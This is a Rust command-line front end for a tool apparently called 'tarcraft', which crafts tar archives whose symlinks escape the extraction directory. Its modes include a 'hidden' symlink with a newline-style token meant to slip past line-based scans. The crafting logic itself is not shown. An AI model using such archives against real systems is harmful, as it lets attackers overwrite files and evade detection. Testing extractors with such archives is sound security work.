use std::ffi::OsString;
use std::path::PathBuf;

use clap::{Parser, Subcommand};

use tarcraft::{ArchiveOptions, FieldMode, Scenario};

/// Craft tar archives with symlink entries that escape the extraction directory
#[derive(Debug, Parser)]
#[clap(name = "tarcraft", version)]
struct App {
    /// Append the two zero blocks that mark the end of an archive
    #[clap(long, global = true)]
    trailer: bool,
    /// Truncate oversized header fields instead of failing
    #[clap(long, global = true)]
    lenient: bool,
    /// Dump every header as it is written
    #[clap(short, long, global = true)]
    verbose: bool,

    #[clap(subcommand)]
    cmd: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Extract payload to destination of symlink in one archive
    #[clap(name = "symlink_dir_one", alias = "symlink-dir-one")]
    SymlinkDirOne {
        payload: PathBuf,
        linkname: OsString,
        destination: OsString,
        output: PathBuf,
    },
    /// Extract payload to destination of symlink in two stages
    #[clap(name = "symlink_dir_two", alias = "symlink-dir-two")]
    SymlinkDirTwo {
        payload: PathBuf,
        linkname: OsString,
        destination: OsString,
        output1: PathBuf,
        output2: PathBuf,
    },
    /// Hide a symlink behind a token in its name and reach it through a second symlink
    #[clap(name = "symlink_hidden", alias = "symlink-hidden")]
    SymlinkHidden {
        /// used for uid/gid and mtime of the symlinks
        stat_file: PathBuf,
        linkname: OsString,
        destination: OsString,
        output: PathBuf,
        /// appended to the hidden link's name, e.g. a newline to break line-based scans
        token: OsString,
    },
}

impl App {
    fn options(&self) -> ArchiveOptions {
        ArchiveOptions {
            field_mode: if self.lenient {
                FieldMode::Lenient
            } else {
                FieldMode::Strict
            },
            end_of_archive: self.trailer,
        }
    }
}

impl From<Command> for Scenario {
    fn from(cmd: Command) -> Self {
        match cmd {
            Command::SymlinkDirOne {
                payload,
                linkname,
                destination,
                output,
            } => Scenario::SymlinkDirOne {
                payload,
                linkname,
                destination,
                output,
            },
            Command::SymlinkDirTwo {
                payload,
                linkname,
                destination,
                output1,
                output2,
            } => Scenario::SymlinkDirTwo {
                payload,
                linkname,
                destination,
                first: output1,
                second: output2,
            },
            Command::SymlinkHidden {
                stat_file,
                linkname,
                destination,
                output,
                token,
            } => Scenario::SymlinkHidden {
                stat_file,
                linkname,
                destination,
                output,
                token,
            },
        }
    }
}

fn main() {
    let app = App::parse();

    let filter = if app.verbose { "debug" } else { "info" };
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or(filter)).init();

    let options = app.options();
    let scenario = Scenario::from(app.cmd);
    match scenario.run(options) {
        Ok(created) => {
            let names: Vec<String> = created.iter().map(|p| p.display().to_string()).collect();
            println!("Created {}", names.join(" and "));
        }
        Err(e) => {
            eprintln!("Error: {}", e);
            std::process::exit(1);
        }
    }
}
